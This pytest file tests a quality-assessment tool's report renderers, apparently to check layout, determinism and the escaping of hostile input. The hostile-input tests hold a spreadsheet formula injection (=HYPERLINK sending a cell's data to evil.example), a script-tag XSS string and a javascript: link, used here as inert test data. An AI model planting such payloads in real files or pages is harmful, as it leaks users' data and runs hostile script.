"""The report renderers: the chart, the DOCX, the workbook, the Markdown and the dispatcher, on a middling site, a
hostile one and an empty one (tests/report_samples.py). Each format is opened with its own reader and checked for
what a reader of the report relies on."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from docx import Document as open_docx
from docx.document import Document as DocxDocument
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from docx.table import Table
from openpyxl import Workbook as OpenpyxlWorkbook
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet
from PIL import Image

from assistant.reports.chart import DPI, ROW_IN, WIDTH_IN, area_chart_png
from assistant.reports.docx import render_docx
from assistant.reports.format import SECTIONS
from assistant.reports.markdown import render_markdown
from assistant.reports.model import AssessmentReport
from assistant.reports.render import FORMATS, Format, render
from assistant.reports.xlsx import SHEETS, render_xlsx
from tests import report_samples as samples

REPO = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def middling() -> AssessmentReport:
    return samples.middling()


@pytest.fixture(scope="module")
def hostile() -> AssessmentReport:
    return samples.hostile()


# --- chart ------------------------------------------------------------------------------------------------------


def test_chart_is_a_png_of_fixed_size_with_no_metadata(middling: AssessmentReport) -> None:
    png = area_chart_png(middling)
    image = Image.open(io.BytesIO(png))
    assert image.format == "PNG"
    assert image.size == (int(WIDTH_IN * DPI), int((1.3 + ROW_IN * 5) * DPI))
    assert b"Software" not in png
    assert b"matplotlib" not in png.lower()
    assert not {k for k in image.info if k.lower() in {"software", "creation time", "date"}}


def test_chart_is_the_same_bytes_for_the_same_report_and_changes_with_it(middling: AssessmentReport) -> None:
    png = area_chart_png(middling)
    assert area_chart_png(samples.middling()) == png
    lower = middling.model_copy(deep=True)
    lower.areas[1].score = 1.5
    assert area_chart_png(lower) != png
    settled = middling.model_copy(deep=True)
    settled.areas[3].provisional = False
    assert area_chart_png(settled) != png  # the provisional bar is drawn differently


def test_a_provisional_bar_is_lighter_than_a_settled_one(middling: AssessmentReport) -> None:
    """Technical Excellence (4th) and Employee Engagement (5th) both score 3.00; only the first is provisional. A
    vertical line through every bar (at about score 1.1) crosses five bars; the 4th is the lighter."""
    image = Image.open(io.BytesIO(area_chart_png(middling))).convert("L")
    x = int(image.width * 0.45)
    column = [image.getpixel((x, y)) for y in range(image.height)]
    bars: list[list[int]] = []
    for y, value in enumerate(column):
        if value < 235:
            if bars and y - bars[-1][-1] == 1:
                bars[-1].append(y)
            else:
                bars.append([y])
    bars = [b for b in bars if len(b) > 20]  # bar bodies, not axis lines or hatch strokes
    assert len(bars) == 5
    darkness = [sum(255 - column[y] for y in b) / len(b) for b in bars]
    assert darkness[3] < 0.7 * darkness[4]
    assert all(d > 150 for i, d in enumerate(darkness) if i != 3)


def test_chart_draws_a_report_without_scores_or_areas(hostile: AssessmentReport) -> None:
    """Unscored areas, emoji, '$...$' and markup in names, and no areas at all: a PNG, and no warning (the test
    tier turns warnings into errors)."""
    for report in (hostile, samples.empty()):
        assert Image.open(io.BytesIO(area_chart_png(report))).format == "PNG"


# --- DOCX -------------------------------------------------------------------------------------------------------


def _docx(report: AssessmentReport) -> DocxDocument:
    return open_docx(io.BytesIO(render_docx(report)))


def _headings(document: DocxDocument, level: int) -> list[str]:
    return [p.text for p in document.paragraphs if p.style is not None and p.style.name == f"Heading {level}"]


def _table(document: DocxDocument, header: list[str]) -> Table:
    found = [t for t in document.tables if [c.text for c in t.rows[0].cells] == header]
    assert len(found) == 1, f"{len(found)} tables with header {header}"
    return found[0]


def _all_text(document: DocxDocument) -> str:
    return "\n".join(t.text or "" for t in document.element.body.iter(qn("w:t")))


def test_docx_sections_are_heading_1_in_order(middling: AssessmentReport) -> None:
    document = _docx(middling)
    assert _headings(document, 1) == list(SECTIONS)
    assert [p.text for p in document.paragraphs if p.style is not None and p.style.name == "Title"] == [middling.title]
    assert _headings(document, 2)[:5] == [a.name for a in middling.areas]  # one per practice area
    assert "MC-01 Quality objectives" in _headings(document, 3)  # one per question in the appendix
    assert _headings(document, 4)[:2] == ["Management review looks ahead", "MC-01 Quality objectives: toward level 4"]


def test_docx_without_a_previous_assessment_has_no_change_section() -> None:
    document = _docx(samples.empty())
    assert _headings(document, 1) == [s for s in SECTIONS if s != "Change since the previous assessment"]
    text = _all_text(document)
    assert "No finding is recorded." in text
    assert "No question is in this report." in text
    assert not document.inline_shapes  # no areas: no chart


def test_docx_cover_and_summary_carry_the_facts(middling: AssessmentReport) -> None:
    text = _all_text(_docx(middling))
    for expected in (
        "Northfield Sterile Products, Building 4",
        "qmm-self-assessment@2",
        "A-7F3K2Q",
        "2027-01-11",
        "Ravi Menon (Head of quality assurance)",
        "Maria Chen",
        "2.77 (Developing)",
        "83%",
        "58%",
        "5 of 10 scored questions",
        middling.summary[1],
        middling.disclaimer,
        "never scored",
    ):
        assert expected in text, expected


def test_docx_marks_a_provisional_overall_with_its_note(hostile: AssessmentReport) -> None:
    text = _all_text(_docx(hostile))
    assert "not scored (provisional)" in text
    assert f"{samples.ARITH} {samples.SCRIPT}" in text  # the provisional note, as text


def test_docx_tables_have_a_repeating_header_row(middling: AssessmentReport) -> None:
    document = _docx(middling)
    gate = _table(document, ["Item", "Kind", "Answer", "Status", "Message"])
    assert [r.cells[3].text for r in gate.rows[1:]] == ["Passes", "Does not pass", "Not answered"]
    findings = _table(document, ["ID", "Area", "Kind", "Title", "Priority", "Effort", "Owner", "Due"])
    assert [r.cells[0].text for r in findings.rows[1:]] == [f.id for f in middling.findings]
    assert findings.rows[2].cells[1].text == "Management Commitment to Quality"  # area by name, not id
    plan_header = ["Opportunity", "Goal", "Measure", "Baseline", "Target", "Owner", "Due", "Follow-up", "Status"]
    plans = [t for t in document.tables if [c.text for c in t.rows[0].cells] == plan_header]
    assert len(plans) == 2  # this plan and the previous one
    assert [r.cells[8].text for r in plans[0].rows[1:]] == ["In progress (OVERDUE)", "Planned"]
    assert _table(document, ["Practice area", "Score", "Level", "Questions assessed", "Note"]).rows[4].cells[
        4
    ].text == ("Provisional")
    for table in document.tables:
        if len(table.columns) > 2:  # the two-column fact tables have labels, not a header
            first = table.rows[0]._tr
            assert first.find(qn("w:trPr")).find(qn("w:tblHeader")) is not None
            assert all(r.bold for c in table.rows[0].cells for p in c.paragraphs for r in p.runs)


def test_docx_areas_show_findings_with_citations(middling: AssessmentReport) -> None:
    text = _all_text(_docx(middling))
    for expected in (
        "Score 3.00 (Established); 3 of 3 applicable questions assessed.",
        "1 of 2 applicable questions assessed; provisional",
        "Give each shift team one goal traced to a site objective, shown on the tier board.",
        "Objectives cascaded to teams (L4).",
        "High priority: ",
        "Effort: Months. Owner: Anna Keller, due 2027-06-30. Priority: A level-4 criterion in the lowest-scoring "
        "area's most-cited question.",
        "Root causes of drug shortages (FDA Drug Shortages: Root Causes and Potential Solutions (2019))",
        "No strength is recorded for this area.",
    ):
        assert expected in text, expected


def test_docx_appendix_has_answers_quotes_and_evidence(middling: AssessmentReport) -> None:
    document = _docx(middling)
    text = _all_text(document)
    assert "Anna Keller (Site head), Confirmed, 2027-01-12 09:40 UTC, version 1" in text
    assert "interviewees' answers conflict; validated by an assessor" in text
    assert "Training is run by the corporate academy, not the site." in text
    fields = [t for t in document.tables if [c.text for c in t.rows[0].cells] == ["Field", "Value", "Quote"]]
    assert [c.text for c in fields[1].rows[2].cells] == [
        "Leadership review of progress",
        "Every month",
        "monthly at the quality council",
    ]
    evidence = [
        t for t in document.tables if [c.text for c in t.rows[0].cells] == ["Record", "Status", "Kind", "SHA-256"]
    ]
    assert [c.text for c in evidence[0].rows[3].cells] == [
        "objectives-scorecard.pdf",
        "Seen by an assessor (Maria Chen, 2027-01-20 10:05 UTC)",
        "Uploaded file",
        samples.SHA,
    ]


def test_docx_embeds_the_chart(middling: AssessmentReport) -> None:
    document = _docx(middling)
    assert len(document.inline_shapes) == 1
    blip = document.inline_shapes[0]._inline.graphic.graphicData.pic.blipFill.blip
    assert document.part.related_parts[blip.embed].blob == area_chart_png(middling)


def test_docx_every_page_has_the_running_header_and_a_page_number(middling: AssessmentReport) -> None:
    document = _docx(middling)
    assert [s.orientation for s in document.sections] == [WD_ORIENT.PORTRAIT, WD_ORIENT.LANDSCAPE, WD_ORIENT.PORTRAIT]
    for section in document.sections:
        header = " ".join(p.text for p in section.header.paragraphs)
        assert "Northfield Sterile Products, Building 4" in header
        assert "qmm-self-assessment@2" in header
        assert "generated 2027-02-03" in header
        fields = [f.get(qn("w:instr")) for f in section.footer._element.iter(qn("w:fldSimple"))]
        assert fields == ["PAGE", "NUMPAGES"]


def test_docx_carries_hostile_strings_as_text(hostile: AssessmentReport) -> None:
    data = render_docx(hostile)
    document = open_docx(io.BytesIO(data))
    text = _all_text(document)
    for expected in (samples.SCRIPT, samples.HYPERLINK, samples.ARITH, samples.MARKUP, samples.EMOJI, "@SUM(A1:A9)"):
        assert expected in text, expected
    assert samples.LONG_QUOTE in text  # whole, in its table cell
    assert "bell null escape form feed" in text  # control characters dropped, the words kept
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
    assert b"<script>" not in xml
    assert b"&lt;script&gt;" in xml
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]", xml)


def test_docx_is_the_same_document_for_the_same_report(middling: AssessmentReport) -> None:
    first, second = render_docx(middling), render_docx(samples.middling())
    parts = zipfile.ZipFile(io.BytesIO(first)), zipfile.ZipFile(io.BytesIO(second))
    assert parts[0].read("word/document.xml") == parts[1].read("word/document.xml")
    assert first == second  # properties and zip dates come from the report, not the clock
    props = open_docx(io.BytesIO(first)).core_properties
    assert props.author == "QMM Assessment Assistant"
    assert props.created == props.modified == datetime(2027, 2, 3, tzinfo=UTC)
    changed = middling.model_copy(update={"generated": "2027-02-04"})
    assert zipfile.ZipFile(io.BytesIO(render_docx(changed))).read("word/document.xml") != parts[0].read(
        "word/document.xml"
    )


# --- XLSX -------------------------------------------------------------------------------------------------------


def _xlsx(report: AssessmentReport) -> OpenpyxlWorkbook:
    return load_workbook(io.BytesIO(render_xlsx(report)))


def _rows(sheet: Worksheet) -> list[dict[str, object]]:
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]


HEADERS = {
    "Profile": ["Section", "Item", "Value", "Level", "Provisional", "Questions assessed", "Questions applicable"],
    "Answers": [
        "Question", "Topic", "Area", "Level", "Question status", "Conflict", "Validated", "Interviewee", "Role",
        "Answer status", "At", "Field", "Value", "Quote", "Answer text", "Version",
    ],
    "Findings": [
        "ID", "Kind", "Area", "Question", "Title", "Observation", "Gap", "Recommendation", "Effort", "Priority",
        "Priority reason", "Owner", "Due", "Origin", "Citations",
    ],
    "Evidence": [
        "Question", "Topic", "Record", "Status", "Kind", "SHA-256", "Size (bytes)", "Media type", "Added by", "At",
    ],
    "Plan": [
        "ID", "Finding", "Opportunity", "Goal", "Measure", "Baseline", "Target", "Owner", "Due", "Follow-up", "Status",
        "Overdue",
    ],
    "Gate": ["Item", "Kind", "Answer", "Status", "Message"],
}  # fmt: skip


@pytest.mark.parametrize("name", list(samples.SAMPLES))
def test_xlsx_sheets_have_a_bold_frozen_filtered_header(name: str) -> None:
    book = _xlsx(samples.SAMPLES[name]())
    assert book.sheetnames == list(SHEETS) == list(HEADERS)
    for sheet in book:
        assert [c.value for c in sheet[1]] == HEADERS[sheet.title]
        assert all(c.font.bold for c in sheet[1])
        assert sheet.freeze_panes == "A2"
        last = get_column_letter(len(HEADERS[sheet.title]))
        assert sheet.auto_filter.ref == f"A1:{last}{max(sheet.max_row, 1)}"
        widths = [sheet.column_dimensions[get_column_letter(i + 1)].width for i in range(sheet.max_column)]
        assert all(8 <= w <= 66 for w in widths), (sheet.title, widths)


def test_xlsx_profile_numbers_are_numbers(middling: AssessmentReport) -> None:
    profile = _xlsx(middling)["Profile"]
    rows = {(r[0].value, r[1].value): r for r in profile.iter_rows(min_row=2)}
    overall = rows["Report", "Overall score"]
    assert (overall[2].value, overall[3].value, overall[4].value) == (2.77, "Developing", False)
    assert isinstance(overall[2].value, float)
    completeness = rows["Report", "Completeness"][2]
    assert (completeness.value, completeness.number_format) == (0.83, "0%")
    assert (rows["Report", "Questions scored"][2].value, rows["Report", "Questions scored"][2].number_format) == (
        10,
        "General",
    )
    assert rows["Report", "Started"][2].value == "2027-01-11"  # dates stay ISO text
    assert rows["Report", "Compliance gate"][2].value == middling.gate_headline
    area = rows["Practice area", "Technical Excellence"]
    assert [c.value for c in area] == ["Practice area", "Technical Excellence", 3.0, "Established", True, 1, 2]
    assert (area[2].data_type, area[2].number_format) == ("n", "0.00")  # a number shown as 3.00, not the text "3.0"
    assert (area[5].data_type, area[4].data_type) == ("n", "b")
    assert len([k for k in rows if k[0] == "Practice area"]) == 5


def test_xlsx_answers_have_a_row_per_question_interviewee_and_field(middling: AssessmentReport) -> None:
    rows = _rows(_xlsx(middling)["Answers"])
    expected = sum(max(len(a.fields), 1) for q in middling.questions for a in q.answers) + sum(
        1 for q in middling.questions if not q.answers
    )
    assert len(rows) == expected == 26
    mc01 = [r for r in rows if r["Question"] == "MC-01"]
    assert [(r["Interviewee"], r["Field"]) for r in mc01][2:4] == [
        ("Anna Keller", "Cascaded to"),
        ("Ravi Menon", "Written quality objectives"),
    ]
    assert (mc01[4]["Value"], mc01[4]["Quote"], mc01[4]["Level"]) == (
        "Every month",
        "monthly at the quality council",
        3,
    )
    assert type(mc01[4]["Level"]) is int
    assert (mc01[0]["Conflict"], mc01[0]["At"], mc01[0]["Area"]) == (
        True,
        "2027-01-12T09:40:00+00:00",
        "Management Commitment to Quality",
    )
    not_assessed = next(r for r in rows if r["Question"] == "TE-03")
    assert (not_assessed["Question status"], not_assessed["Level"], not_assessed["Interviewee"]) == (
        "Not assessed",
        None,
        None,
    )


def test_xlsx_findings_evidence_plan_and_gate(middling: AssessmentReport) -> None:
    book = _xlsx(middling)
    findings = _rows(book["Findings"])
    assert [f["ID"] for f in findings] == [f.id for f in middling.findings]
    assert (findings[3]["Effort"], findings[3]["Priority"], findings[3]["Area"]) == (
        "A year or more",
        "Medium",
        "Business Continuity",
    )
    assert str(findings[3]["Citations"]).count("\n") == 1  # two citations, one a line
    evidence = _rows(book["Evidence"])
    upload = next(e for e in evidence if e["Kind"] == "Uploaded file")
    assert (upload["SHA-256"], upload["Size (bytes)"], upload["Status"]) == (samples.SHA, 48213, "Seen by an assessor")
    plan = _rows(book["Plan"])
    assert [(p["ID"], p["Overdue"], p["Due"]) for p in plan] == [
        ("P-1", True, "2027-01-31"),
        ("P-2", False, "2027-06-30"),
    ]
    gate = _rows(book["Gate"])
    assert [g["Status"] for g in gate] == ["Passes", "Does not pass", "Not answered"]


def test_xlsx_never_writes_a_formula(hostile: AssessmentReport) -> None:
    data = render_xlsx(hostile)
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name), name
    formula_like = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in formula_like} >= {samples.HYPERLINK, samples.ARITH, "@SUM(A1:A9)", "@risk"}
    assert all(c.data_type == "s" and c.quotePrefix for c in formula_like)
    answers = _rows(book["Answers"])
    assert answers[0]["Value"] == samples.HYPERLINK
    assert answers[0]["Quote"] == samples.LONG_QUOTE  # 5,000 characters, whole
    assert answers[0]["Interviewee"] == f"{samples.SCRIPT} bell null escape form feed"  # controls dropped
    assert answers[1]["Quote"] == samples.EMOJI


def test_xlsx_caps_a_cell_at_excels_limit() -> None:
    report = samples.middling()
    report.findings[0].observation = "x" * 40_000
    observation = _rows(_xlsx(report)["Findings"])[0]["Observation"]
    assert isinstance(observation, str)
    assert len(observation) == 32_767
    assert observation.endswith("…")


def test_xlsx_is_the_same_bytes_for_the_same_report(middling: AssessmentReport) -> None:
    first = render_xlsx(middling)
    assert render_xlsx(samples.middling()) == first
    other = middling.model_copy(update={"overall": 2.5})
    assert render_xlsx(other) != first
    assert load_workbook(io.BytesIO(first)).properties.created == datetime(2027, 2, 3)


# --- Markdown ---------------------------------------------------------------------------------------------------

UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")


def test_markdown_has_the_docx_sections_in_order(middling: AssessmentReport) -> None:
    text = render_markdown(middling)
    assert [line[3:] for line in text.splitlines() if line.startswith("## ")] == list(SECTIONS)
    assert text.splitlines()[0] == f"# {middling.title}"
    areas = [line[4:] for line in text.splitlines() if line.startswith("### ")]
    assert areas[:5] == [a.name for a in middling.areas]
    assert "#### MC-01 Quality objectives" in text
    empty = render_markdown(samples.empty())
    assert "## Change since the previous assessment" not in empty
    assert "No question is in this report." in empty


def test_markdown_tables_have_a_header_and_a_row_per_item(middling: AssessmentReport) -> None:
    lines = render_markdown(middling).splitlines()
    start = lines.index("| ID | Area | Kind | Title | Priority | Effort | Owner | Due |")
    assert lines[start + 1] == "|" + " --- |" * 8
    rows = lines[start + 2 : start + 2 + len(middling.findings)]
    assert [r.split(" | ")[0][2:] for r in rows] == [f.id.replace("_", "\\_") for f in middling.findings]
    assert lines[start + 2 + len(middling.findings)] == ""
    plan = next(i for i, line in enumerate(lines) if line.startswith("| Opportunity | Goal |"))
    assert "In progress (OVERDUE)" in lines[plan + 2]
    for line in lines:
        if line.startswith("| "):
            assert len(UNESCAPED_PIPE.findall(line)) in {4, 5, 6, 9, 10}, line  # columns + 1 for every table here


def test_markdown_carries_figures_findings_and_answers(middling: AssessmentReport) -> None:
    text = render_markdown(middling)
    for expected in (
        "- **Overall score:** 2.77 (Developing)",
        "- **Completeness:** 83%",
        "**Result:** One gate item does not pass",
        "never scored",
        "- **Gap:** Objectives cascaded to teams (L4).",
        "- **Effort:** Months. **Owner:** Anna Keller, due 2027-06-30",
        "**Anna Keller (Site head), Confirmed, 2027-01-12 09:40 UTC, version 1**",
        "| Leadership review of progress | Every month | monthly at the quality council |",
        "| objectives-scorecard.pdf | Seen by an assessor (Maria Chen, 2027-01-20 10:05 UTC) | Uploaded file | "
        f"{samples.SHA} |",
        "**Overall score:** 2.41 then, 2.77 now (+0.36).",
        "| MC-04 | Management review | 3 | 4 |",
    ):
        assert expected in text, expected
    assert "| Objectives cascaded to teams<br>Leadership reviews progress every month |" in text  # two needs


def test_markdown_escapes_markup_and_html_in_data(hostile: AssessmentReport) -> None:
    text = render_markdown(hostile)
    assert "<script>" not in text
    assert "<b>" not in text
    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in text
    assert not re.search(r"(?<!\\)[`\[\]]", text)  # no code span, no link
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
    lines = text.splitlines()
    assert "\\- starts like a list" in lines
    assert "12\\. starts like a numbered list" in lines
    assert "\\# Heading \\| pipe \\`code\\` \\*\\*bold\\*\\* \\[link\\](javascript:alert(1)) &amp; &lt;b&gt;" in lines
    assert "\\=HYPERLINK(" in text
    headings = [line for line in lines if line.startswith("#")]
    assert all(re.match(r"#{1,4} ", h) for h in headings)
    assert len([h for h in headings if h.startswith("## ")]) == len(SECTIONS)
    gate = next(line for line in lines if line.startswith("| \\-1+1 |"))
    assert len(UNESCAPED_PIPE.findall(gate)) == 6  # the data's '|' does not split a cell


def test_markdown_renders_to_html_with_no_markup_from_data(hostile: AssessmentReport) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(render_markdown(hostile))
    assert "<script" not in html
    assert "<b>" not in html
    assert "<a " not in html
    assert "<code>" not in html
    assert "<ol" not in html
    assert html.count("<h1>") == 1
    assert html.count("<h2>") == len(SECTIONS)
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in html
    assert "# Heading | pipe `code` **bold** [link](javascript:alert(1)) &amp; &lt;b&gt;" in html
    assert "<li>- looks like a list</li>" in html
    assert "<p>12. starts like a numbered list</p>" in html


def test_markdown_is_the_same_for_the_same_report(middling: AssessmentReport) -> None:
    assert render_markdown(middling) == render_markdown(samples.middling())


# --- render -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["docx", "xlsx", "json", "md"])
def test_render_dispatches_every_format(middling: AssessmentReport, fmt: Format) -> None:
    data = render(middling, fmt)
    info = FORMATS[fmt]
    assert info.suffix == f".{fmt}"
    if fmt == "docx":
        assert _headings(open_docx(io.BytesIO(data)), 1) == list(SECTIONS)
        assert info.media_type == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    elif fmt == "xlsx":
        assert load_workbook(io.BytesIO(data)).sheetnames == list(SHEETS)
        assert info.media_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    elif fmt == "json":
        assert AssessmentReport.model_validate_json(data) == middling
        assert info.media_type == "application/json"
    else:
        assert data.decode() == render_markdown(middling)
        assert info.media_type.startswith("text/markdown")


def test_render_refuses_an_unknown_format(middling: AssessmentReport) -> None:
    with pytest.raises(ValueError, match="unknown report format 'pdf'"):
        render(middling, "pdf")  # type: ignore[arg-type]


def test_rendering_markdown_or_json_imports_no_heavy_library() -> None:
    code = (
        "import sys\n"
        "from assistant.reports.render import render\n"
        "from tests.report_samples import middling\n"
        "render(middling(), 'md'); render(middling(), 'json')\n"
        "print(sorted(m for m in ('matplotlib', 'docx', 'openpyxl') if m in sys.modules))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=REPO)
    assert out.stdout.strip() == "[]"



def test_the_summary_counts_findings_in_plain_english(tmp_path: Path) -> None:
    from assistant.service import AssessmentService
    from assistant.settings import REPO_ROOT, Settings

    svc = AssessmentService(Settings(data_dir=tmp_path / "data", embeddings="fake", vector_store="memory"))
    report = svc.reports.from_answers_file(REPO_ROOT / "eval" / "sites" / "middling.yaml")
    line = next(s for s in report.summary if "drafted from the rubric" in s)
    assert "(s)" not in line
    assert "(ies)" not in line
    strengths = sum(f.kind == "strength" for f in report.findings)
    assert line.startswith(f"{strengths} strength{'' if strengths == 1 else 's'} and ")
